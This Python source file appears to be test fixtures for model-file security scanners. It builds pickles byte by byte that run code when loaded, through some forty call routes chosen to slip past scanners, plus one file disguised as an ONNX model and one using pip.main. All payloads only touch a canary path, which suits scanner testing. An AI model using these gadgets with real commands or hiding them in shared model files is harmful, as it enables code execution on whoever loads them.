"""Pickles that call something when they are opened, each by another way to run code that scanners have missed.

Owns a writer of pickles opcode by opcode, so that nothing has to be imported to name it, and the list of ways. It
opens none of them.
"""

import marshal
import struct
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any, NamedTuple

from sample_models.hostile.attack import Attack, code


class Name(NamedTuple):
    """A global, as a pickle names it."""

    module: str
    name: str


class Call(NamedTuple):
    """A call of what stands first with what follows; it happens while the pickle is opened."""

    function: "Name | Call"
    arguments: tuple[object, ...] = ()


def pickled(value: object) -> bytes:
    """Return a pickle of strings, numbers, containers, names and calls."""
    return b"\x80\x04" + _encoded(value) + b"."


def _encoded(value: object) -> bytes:
    encode = _ENCODERS.get(type(value))
    if encode is None:
        raise TypeError(f"{type(value).__name__} is no part of an attack")
    return encode(value)


def _joined(values: Iterable[object]) -> bytes:
    return b"".join(map(_encoded, values))


def _sized(opcode: bytes, raw: bytes) -> bytes:
    return opcode + struct.pack("<I", len(raw)) + raw


_ENCODERS: dict[type, Callable[[Any], bytes]] = {
    Name: lambda name: f"c{name.module}\n{name.name}\n".encode(),
    Call: lambda made: _encoded(made.function) + b"(" + _joined(made.arguments) + b"tR",
    type(None): lambda _: b"N",
    bool: lambda value: b"\x88" if value else b"\x89",
    int: lambda value: b"J" + struct.pack("<i", value),
    str: lambda value: _sized(b"X", value.encode()),
    bytes: lambda value: _sized(b"B", value),
    list: lambda value: b"(" + _joined(value) + b"l",
    dict: lambda value: b"(" + _joined(part for item in value.items() for part in item) + b"d",
}
"""How each part is written, by its type; the opcodes are those of `pickletools`."""


def call(path: str, *arguments: object) -> Call:
    """Return a call of ``module.name``."""
    module, _, name = path.rpartition(".")
    return Call(Name(module, name), arguments)


def _module(name: str) -> Call:
    return call("importlib.import_module", name)


def _compiled(canary: Path) -> bytes:
    return marshal.dumps(compile(code(canary), "gadget", "exec"))


GADGETS: dict[str, Callable[[Path], Call]] = {
    "os.system": lambda at: call("os.system", f"touch {at}"),
    "posix.system": lambda at: call("posix.system", f"touch {at}"),
    "os.open": lambda at: call("os.open", str(at), 0o101),
    "os.mkdir": lambda at: call("os.mkdir", str(at)),
    "os.mknod": lambda at: call("os.mknod", str(at)),
    "os.mkfifo": lambda at: call("os.mkfifo", str(at)),
    "os.symlink": lambda at: call("os.symlink", "/dev/null", str(at)),
    "os.spawnlp": lambda at: call("os.spawnlp", 0, "touch", "touch", str(at)),
    "subprocess.call": lambda at: call("subprocess.call", ["touch", str(at)]),
    "subprocess.run": lambda at: call("subprocess.run", ["touch", str(at)]),
    "subprocess.check_output": lambda at: call("subprocess.check_output", ["touch", str(at)]),
    "subprocess.getoutput": lambda at: call("subprocess.getoutput", f"touch {at}"),
    "builtins.exec": lambda at: call("builtins.exec", code(at)),
    "builtins.eval": lambda at: call("builtins.eval", code(at)),
    "builtins.open": lambda at: call("builtins.open", str(at), "w"),
    "builtins.getattr": lambda at: Call(
        call("builtins.getattr", call("builtins.__import__", "os"), "system"), (f"touch {at}",)
    ),
    "builtins.map": lambda at: call("builtins.list", call("builtins.map", Name("os", "mkdir"), [str(at)])),
    "io.open": lambda at: call("io.open", str(at), "w"),
    "io.FileIO": lambda at: call("io.FileIO", str(at), "w"),
    "codecs.open": lambda at: call("codecs.open", str(at), "w"),
    "shutil.copyfile": lambda at: call("shutil.copyfile", "/dev/null", str(at)),
    "tempfile.mkdtemp": lambda at: call("tempfile.mkdtemp", "", at.name, str(at.parent)),
    "sqlite3.connect": lambda at: call("sqlite3.connect", str(at)),
    "dbm.dumb.open": lambda at: call("dbm.dumb.open", str(at), "n"),
    "logging.FileHandler": lambda at: call("logging.FileHandler", str(at)),
    "timeit.main": lambda at: call("timeit.main", ["-n1", "-r1", code(at)]),
    "cProfile.run": lambda at: call("cProfile.run", code(at)),
    "profile.run": lambda at: call("profile.run", code(at)),
    "runpy._run_code": lambda at: call("runpy._run_code", code(at), {}),
    "marshal.loads": lambda at: Call(
        call(
            "types.FunctionType", call("marshal.loads", _compiled(at)), {"__builtins__": _module("builtins")}
        )
    ),
    "pickle.loads": lambda at: call("pickle.loads", pickled(call("os.mkdir", str(at)))),
    "_pickle.loads": lambda at: call("_pickle.loads", pickled(call("os.mkdir", str(at)))),
    "functools.partial": lambda at: Call(call("functools.partial", Name("os", "mkdir"), str(at))),
    "functools.reduce": lambda at: call("functools.reduce", Name("os", "mkdir"), [str(at), 0o700]),
    "operator.methodcaller": lambda at: Call(
        call("operator.methodcaller", "mkdir", str(at)), (_module("os"),)
    ),
    "operator.attrgetter": lambda at: Call(
        Call(call("operator.attrgetter", "mkdir"), (_module("os"),)), (str(at),)
    ),
    "asyncio.run": lambda at: call("asyncio.run", call("asyncio.to_thread", Name("os", "mkdir"), str(at))),
    "pip.main": lambda at: call("pip.main", ["--log", str(at), "cache", "dir"]),
    "numpy.f2py.crackfortran.myeval": lambda at: call(
        "numpy.f2py.crackfortran.myeval", f"__import__('os').mkdir({str(at)!r})"
    ),
    "torch.jit.unsupported_tensor_ops.execWrapper": lambda at: call(
        "torch.jit.unsupported_tensor_ops.execWrapper", code(at), {}, {}
    ),
    "torch.utils.collect_env.run": lambda at: call("torch.utils.collect_env.run", f"touch {at}"),
}
"""What is called -> the pickle's content, aimed at a canary. Each runs where plain `pickle` opens it.

After arXiv 2508.19774 (133 gadgets), CVE-2025-1716 (pip.main), and what picklescan, modelscan and fickling list.
"""


def gadget(name: str, canary: Path) -> bytes:
    """Return the pickle of a way."""
    return pickled(GADGETS[name](canary))


def disguised(file: Path, canary: Path) -> Path:
    """Write a bare pickle under the name of a format that is none."""
    file.write_bytes(gadget("os.open", canary))
    return file


def innocent(file: Path, canary: Path) -> Path:
    """Write a bare pickle that calls a package which no list of bad names thinks of."""
    file.write_bytes(gadget("pip.main", canary))
    return file


ATTACKS = (
    Attack(
        "disguised.onnx",
        3,
        "a bare pickle that calls a function, named like an ONNX model",
        disguised,
        "would run code (os.open)",
    ),
    Attack(
        "innocent.pkl",
        2,
        "a bare pickle that calls what no list of bad names thinks of (pip.main)",
        innocent,
        "would run code (pip.main)",
    ),
)
